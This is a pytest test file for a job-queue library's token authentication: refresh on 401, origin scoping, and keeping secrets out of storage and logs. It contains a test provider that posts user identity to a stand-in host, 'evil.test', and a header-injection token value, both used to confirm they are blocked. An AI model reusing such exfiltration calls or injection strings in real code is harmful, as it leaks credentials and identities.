"""`auth=`: what says who sends is asked for when a request leaves, and is left nowhere."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pyqueue import (
    Auth,
    AuthContext,
    Certainty,
    Csrf,
    DeclarationError,
    HTTPStatusError,
    Origin,
    Queue,
    Response,
    RetryLater,
    Status,
    TransportError,
)
from pyqueue._auth import token_and_life
from pyqueue._http import Request
from pyqueue.testing import Simulation
from pyqueue.testing.server import json_response

OLD, NEW = "old-token-of-ada", "new-token-of-ada"


def board(auth: Any, **options: Any) -> Queue:
    queue = Queue(auth=auth, origins=["https://free.test", Origin("https://api.test", auth=True)], **options)
    queue.http("note", "POST", "/notes")
    queue.http("look", "GET", "/notes")
    queue.http("free", "POST", "https://free.test/notes")
    queue.http("api", "POST", "https://api.test/notes")
    return queue


def guarded(token: Callable[[], str], answer: Callable[[], Response]) -> Callable[[Request], Response]:
    """A server that lets pass only what bears the present token, and answers so at /token."""

    def handle(request: Request) -> Response:
        if request.url == "/token":
            return answer()
        return Response(201 if request.headers.get("Authorization") == f"Bearer {token()}" else 401)

    return handle


def sent(sim: Simulation) -> list[tuple[str, str | None]]:
    """Of each request that arrived, its URL and Authorization."""
    return [(request.url, request.headers.get("Authorization")) for request in sim.server.requests]


def stored(sim: Simulation) -> str:
    """All that is on disk."""
    return json.dumps([sim.disk.jobs, sim.disk.inbox, sim.disk.meta, sim.waker.holds], default=str)


class Provider:
    """Gives one value after the other, the last for ever; raises those that are exceptions."""

    def __init__(self, *given: Any) -> None:
        self.given = list(given)
        self.contexts: list[AuthContext] = []

    def __call__(self) -> Any:
        async def provider(ctx: AuthContext) -> Any:
            self.contexts.append(ctx)
            value = self.given.pop(0) if len(self.given) > 1 else self.given[0]
            if isinstance(value, BaseException):
                raise value
            return value

        return provider


def test_a_token_of_a_url_is_asked_for_when_the_request_leaves() -> None:
    """A job that was written under an old login bears the new one's."""
    with Simulation(board(Auth(url="/token"))) as sim:
        present = [OLD]
        sim.server.handle = guarded(lambda: present[0], lambda: json_response(200, {"token": present[0]}))
        sim.server.offline = True
        job = sim.enqueue("note", {"text": "hi"})
        sim.wake()
        present[0] = NEW
        sim.server.offline = False
        sim.wake("online")
        sim.run(seconds=60)
        assert sim.job(job).status is Status.DONE
        assert sent(sim) == [("/token", None), ("/notes", f"Bearer {NEW}")]
        assert NEW not in stored(sim)


@pytest.mark.parametrize(
    ("provided", "header"),
    [(NEW, ("Authorization", f"Bearer {NEW}")), ({"X-API-Key": NEW}, ("X-API-Key", NEW))],
)
def test_a_provider_gives_a_token_or_headers(provided: Any, header: tuple[str, str]) -> None:
    with Simulation(board(Provider(provided)())) as sim:
        sim.enqueue("note", {})
        sim.run(seconds=60)
        assert sim.server.requests[0].headers[header[0]] == header[1]


def test_a_provider_may_be_declared_by_a_decorator() -> None:
    queue = Queue()

    @queue.auth
    async def provider(ctx: AuthContext) -> str:
        return NEW

    queue.http("note", "POST", "/notes")
    with Simulation(queue) as sim:
        sim.enqueue("note", {})
        sim.run(seconds=60)
        assert sent(sim) == [("/notes", f"Bearer {NEW}")]
    with pytest.raises(DeclarationError, match="already"):
        queue.auth(provider)


def test_a_token_goes_only_where_the_declaration_lets_it() -> None:
    with Simulation(board(Provider(NEW)())) as sim:
        for task in ("note", "look", "free", "api"):
            sim.enqueue(task, {})
        sim.run(seconds=60)
        assert [token for _, token in sent(sim)] == [f"Bearer {NEW}", f"Bearer {NEW}", None, f"Bearer {NEW}"]


def test_a_401_asks_once_more_and_the_request_is_sent_again_with_the_same_key() -> None:
    provider = Provider(OLD, NEW)
    with Simulation(board(provider())) as sim:
        sim.server.handle = guarded(lambda: NEW, lambda: Response(500))
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.job(job).status is Status.DONE
        assert sim.job(job).attempts == 1
        assert [token for _, token in sent(sim)] == [f"Bearer {OLD}", f"Bearer {NEW}"]
        assert len({request.headers["Idempotency-Key"] for request in sim.server.requests}) == 1
        assert [context.refused for context in provider.contexts] == [False, True]


def test_a_401_asks_a_url_once_more_however_long_its_token_was_to_last() -> None:
    tokens = [OLD, NEW]
    with Simulation(board(Auth(url="/token"))) as sim:
        answer = lambda: json_response(200, {"access_token": tokens.pop(0), "expires_in": 3600})  # noqa: E731
        sim.server.handle = guarded(lambda: NEW, answer)
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.job(job).status is Status.DONE
        assert [url for url, _ in sent(sim)] == ["/token", "/notes", "/token", "/notes"]


@pytest.mark.parametrize("fresh", [OLD, "another-stale-token", None, ValueError("no"), Response])
def test_a_second_401_holds_the_queue_unspent(fresh: Any) -> None:
    """It is sent twice at most."""
    with Simulation(board(Provider(OLD, fresh)())) as sim:
        sim.server.handle = guarded(lambda: NEW, lambda: Response(500))
        job = sim.enqueue("note", {})
        sim.wake()
        assert set(sim.waker.holds) == {"unauthorized"}
        assert sim.job(job).status is Status.PENDING
        assert sim.job(job).attempts == 0
        assert len(sim.server.requests) <= 2
        assert OLD not in stored(sim)


@pytest.mark.parametrize(
    "fault",
    [
        ValueError(f"cannot refresh {NEW}"),
        SystemExit(1),
        KeyboardInterrupt(),
        asyncio.CancelledError(),
        RetryLater(f"busy {NEW}"),
        HTTPStatusError(Response(500, {}, NEW.encode())),
        "",
        f"{NEW}\r\nX-Injected: 1",
        "a b",
        "é",
        "x" * 9000,
        7,
        b"bytes",
        [NEW],
        {"Authorization": 7},
        {"Authorization": f"{NEW}\n"},
        {"Idempotency-Key": "mine"},
        {"pyqueue-principal": "bob"},
        {"Cookie": NEW},
        {7: NEW},
    ],
    ids=repr,
)
def test_a_provider_that_fails_makes_the_job_wait_unspent(fault: Any) -> None:
    """Nothing was sent; nothing of what it raised or returned is kept; it goes on by itself."""
    provider = Provider(fault, NEW)
    with Simulation(board(provider())) as sim:
        job = sim.enqueue("note", {})
        sim.wake()
        waiting = sim.job(job)
        assert (waiting.status, waiting.attempts) == (Status.PENDING, 0)
        assert waiting.certainty is Certainty.NEVER_SENT
        assert waiting.error is not None
        assert waiting.error.code == "no_token"
        assert sim.server.requests == []
        assert NEW not in stored(sim)
        sim.run(seconds=100)
        assert sim.job(job).status is Status.DONE


def test_a_provider_that_takes_too_long_is_left_and_the_job_waits() -> None:
    """Even if it does not end when it is cancelled."""

    async def provider(ctx: AuthContext) -> str:
        while True:
            try:
                await asyncio.sleep(1000)
            except asyncio.CancelledError:
                await asyncio.sleep(1000)

    with Simulation(board(Auth(provider=provider, timeout=5))) as sim:
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.job(job).error is not None
        assert "more than 5 seconds" in sim.job(job).error.message  # type: ignore[union-attr]
        assert sim.job(job).attempts == 0


@pytest.mark.parametrize(
    "answer", [Response(401), Response(403), Response(0, redirected=True)], ids=["401", "403", "redirect"]
)
def test_a_url_that_asks_to_sign_in_holds_the_queue(answer: Response) -> None:
    with Simulation(board(Auth(url="/token"))) as sim:
        sim.server.handle = lambda request: answer if request.url == "/token" else Response(201)
        job = sim.enqueue("note", {})
        sim.wake()
        assert set(sim.waker.holds) == {"unauthorized"}
        assert sim.job(job).certainty is Certainty.NEVER_SENT
        assert sim.server.effects == []
        sim.server.handle = lambda request: Response(200, {}, NEW.encode())
        sim.wake("load")
        assert sim.job(job).status is Status.DONE


def test_a_provider_that_gives_none_holds_the_queue() -> None:
    with Simulation(board(Provider(None)())) as sim:
        sim.enqueue("note", {})
        sim.wake()
        assert set(sim.waker.holds) == {"unauthorized"}
        assert sim.server.requests == []


@pytest.mark.parametrize("answer", [Response(404), Response(500), Response(200, {}, b"<h1>Log in</h1>")])
def test_a_url_without_a_token_makes_the_job_wait(answer: Response) -> None:
    with Simulation(board(Auth(url="/token"))) as sim:
        sim.server.handle = lambda request: answer
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.job(job).error is not None
        assert sim.job(job).error.code == "no_token"  # type: ignore[union-attr]
        assert [url for url, _ in sent(sim)] == ["/token"]


def test_an_unreachable_url_counts_as_an_unreachable_site() -> None:
    with Simulation(board(Auth(url="/token"))) as sim:
        sim.server.answers.append(TransportError("timeout", "no answer"))
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.job(job).error is not None
        assert sim.job(job).error.code == "timeout"  # type: ignore[union-attr]
        assert sim.job(job).certainty is Certainty.NEVER_SENT


@pytest.mark.parametrize(
    ("members", "asked"),
    [({"expires_in": 3600}, 1), ({}, 3), ({"expires_in": 0}, 3), ({"expires_in": "1h"}, 3)],
)
def test_a_token_of_a_url_is_used_for_as_long_as_it_says(members: dict[str, Any], asked: int) -> None:
    with Simulation(board(Auth(url="/token"))) as sim:
        sim.server.handle = guarded(lambda: NEW, lambda: json_response(200, {"token": NEW, **members}))
        for _ in range(3):
            sim.enqueue("note", {})
            sim.run(seconds=60)
        assert [url for url, _ in sent(sim)].count("/token") == asked
        sim.restart()  # It was in the worker's memory alone.
        sim.enqueue("note", {})
        sim.run(seconds=60)
        assert [url for url, _ in sent(sim)].count("/token") == asked + 1


def test_requests_that_leave_together_share_one_token() -> None:
    with Simulation(board(Auth(url="/token"), ordering_key=None)) as sim:
        sim.server.handle = guarded(lambda: NEW, lambda: json_response(200, {"token": NEW}))
        for _ in range(20):
            sim.enqueue("note", {})
        sim.run(seconds=5)
        assert [url for url, _ in sent(sim)].count("/token") == 1
        assert len(sim.server.effects) == 21


def test_a_token_that_was_kept_for_one_person_is_not_sent_for_another() -> None:
    people = iter(["token-of-ada", "token-of-bob"])
    with Simulation(board(Auth(url="/token"))) as sim:
        sim.server.handle = lambda request: (
            json_response(200, {"token": next(people), "expires_in": 3600})
            if request.url == "/token"
            else Response(201)
        )
        for person in ("ada", "bob"):
            sim.identify(person)
            sim.enqueue("note", {})
            sim.run(seconds=1)
        notes = [token for url, token in sent(sim) if url == "/notes"]
        assert notes == ["Bearer token-of-ada", "Bearer token-of-bob"]


def test_a_provider_is_told_whose_request_it_is_and_may_ask_the_site() -> None:
    """With the CSRF token, without an idempotency key, and without itself."""
    seen = []

    async def provider(ctx: AuthContext) -> str:
        seen.append(ctx.principal)
        response = await ctx.http.post("/session", body={"want": "token"})
        return str(response.json()["token"])

    with Simulation(board(provider, csrf=Csrf.django())) as sim:
        sim.site.cookies["csrftoken"] = "csrf-token"
        sim.identify("ada")
        sim.server.handle = lambda request: (
            json_response(200, {"token": NEW}) if request.url == "/session" else Response(201)
        )
        sim.enqueue("note", {})
        sim.run(seconds=60)
        assert seen == ["ada"]
        first, second = sim.server.requests
        assert first.headers["X-CSRFToken"] == second.headers["X-CSRFToken"] == "csrf-token"
        assert "Idempotency-Key" not in first.headers
        assert "Authorization" not in first.headers


def test_a_provider_sends_nothing_elsewhere() -> None:
    async def provider(ctx: AuthContext) -> str:
        await ctx.http.post("https://evil.test/", body={"who": ctx.principal})
        return NEW

    with Simulation(board(provider)) as sim:
        job = sim.enqueue("note", {})
        sim.wake()
        assert sim.server.requests == []
        assert sim.job(job).error is not None
        assert "InvalidRequest" in sim.job(job).error.message  # type: ignore[union-attr]


def test_a_token_stands_for_whatever_the_task_had_in_that_header() -> None:
    queue = board(Provider(NEW)())

    @queue.task("mine")
    async def mine(ctx: Any) -> None:
        await ctx.http.post("/notes", headers={"authorization": "Bearer mine"})

    with Simulation(queue) as sim:
        sim.enqueue("mine", {})
        sim.run(seconds=60)
        headers = sim.server.requests[0].headers
        assert [name for name in headers if name.lower() == "authorization"] == ["Authorization"]
        assert headers["Authorization"] == f"Bearer {NEW}"


@pytest.mark.parametrize("status", [200, 401, 422, 500])
def test_no_token_is_left_in_what_is_kept_of_an_answer(status: int) -> None:
    """A server may say what it was sent, a debug page does."""
    with Simulation(board(Provider(OLD, NEW)())) as sim:
        sim.server.handle = lambda request: Response(
            status, {}, f"you sent {request.headers['Authorization']}".encode()
        )
        sim.enqueue("note", {})
        sim.wake()
        assert OLD not in stored(sim)
        assert NEW not in stored(sim)


def test_no_token_is_logged(caplog: pytest.LogCaptureFixture) -> None:
    with Simulation(board(Provider(ValueError(NEW), NEW)())) as sim:
        sim.enqueue("note", {})
        sim.run(seconds=100)
        assert NEW not in caplog.text


@given(st.binary())
def test_any_answer_can_be_looked_at_for_a_token(body: bytes) -> None:
    token_and_life(Response(200, {}, body))


@pytest.mark.parametrize(
    ("body", "found"),
    [
        (b'{"access_token": "abc", "expires_in": 60}', ("abc", 60.0)),
        (b'{"token": "abc", "expires_in": 1e99}', ("abc", 86_400.0)),
        (b'{"token": "abc", "expires_in": -5}', ("abc", None)),
        (b'{"token": "abc", "expires_in": true}', ("abc", None)),
        (b'"abc"', ("abc", None)),
        (b"abc\n", ("abc", None)),
        (b"", None),
        (b'{"token": "a b"}', None),
        (b"a" * 9000, None),
    ],
)
def test_an_answer_is_a_token_or_none(body: bytes, found: Any) -> None:
    assert token_and_life(Response(200, {}, body)) == found
    assert token_and_life(Response(404, {}, body)) is None


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda: Auth(), "one source"),
        (lambda: Auth(url="/a", provider=Provider(NEW)()), "one source"),
        (lambda: Auth(url="https://elsewhere.test/token"), "path of the site"),
        (lambda: Auth(url="//elsewhere.test"), "path of the site"),
        (lambda: Auth(provider=lambda ctx: NEW), "async function"),  # type: ignore[arg-type, return-value]
        (lambda: Auth(url="/a", scheme="Bearer x"), "one word"),
        (lambda: Auth(url="/a", header="Cookie"), "header"),
        (lambda: Auth(url="/a", header="Idempotency-Key"), "header"),
        (lambda: Auth(url="/a", timeout=0), "timeout"),
        (lambda: Queue(auth="Bearer x"), "give an Auth"),  # type: ignore[arg-type]
        (lambda: Queue(auth=sys.exit), "give an Auth"),
    ],
)
def test_a_wrong_declaration_says_what_is_wrong(make: Callable[[], Any], words: str) -> None:
    with pytest.raises(DeclarationError, match=words):
        make()


def test_pages_are_told_nothing_of_it() -> None:
    assert board(Auth(url="/token")).declaration().keys() == {"limits", "tasks", "origins"}
